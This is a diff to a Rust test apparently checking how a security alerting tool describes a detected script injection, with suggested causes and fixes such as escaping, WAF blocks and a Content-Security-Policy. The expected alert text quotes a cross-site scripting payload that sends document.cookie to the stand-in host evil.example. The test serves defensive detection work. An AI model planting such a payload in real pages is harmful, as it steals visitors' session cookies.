@@ -34,7 +34,7 @@ fn a_new_script_is_told_like_this() {
     Status     Open, not acknowledged · 1 event, 14 Mar 02:10 UTC
     Summary    Script sent to shop in prod by 203.0.113.9: “<script>fetch('//evil.example/'+document.cookie)</script>”
                since 14 Mar 02:10 UTC. The text breaks out of an attribute or a tag and brings its own handler or script.
-               Confidence: medium (0.54).
+               Confidence: medium (0.62).
     Causes     1. A query or form parameter is echoed into the page unescaped (E1) - fixes: Repeat the request against
                staging with the harmless marker <b>xx</b> and look whether the answer holds it unescaped, Until the
                template escapes it, block the pattern for that one path at the proxy or WAF
@@ -42,8 +42,9 @@ fn a_new_script_is_told_like_this() {
                field as a test user with JavaScript off, and look whether the text stands there as markup, Send
                Content-Security-Policy-Report-Only for that page first, then enforce script-src 'self' once the reports
                are clean
-               3. Legitimate content that holds markup - fixes: Ask who uses the account behind the request before
-               blocking anything, and mark as false positive if it is their work
+               3. Somebody probes forms and parameters, by hand or with a scanner (E1) - fixes: Count its answers by
+               status: grep -F '203.0.113.9' access.log | awk '{print $9}' | sort | uniq -c, Limit the rate of 203.0.113.9
+               at the edge for an hour
     Actions    [Acknowledge] [Request More Info] [Mark as Resolved] [False Positive] [Add Solution]
     Note       analysis without a language model
     "#);
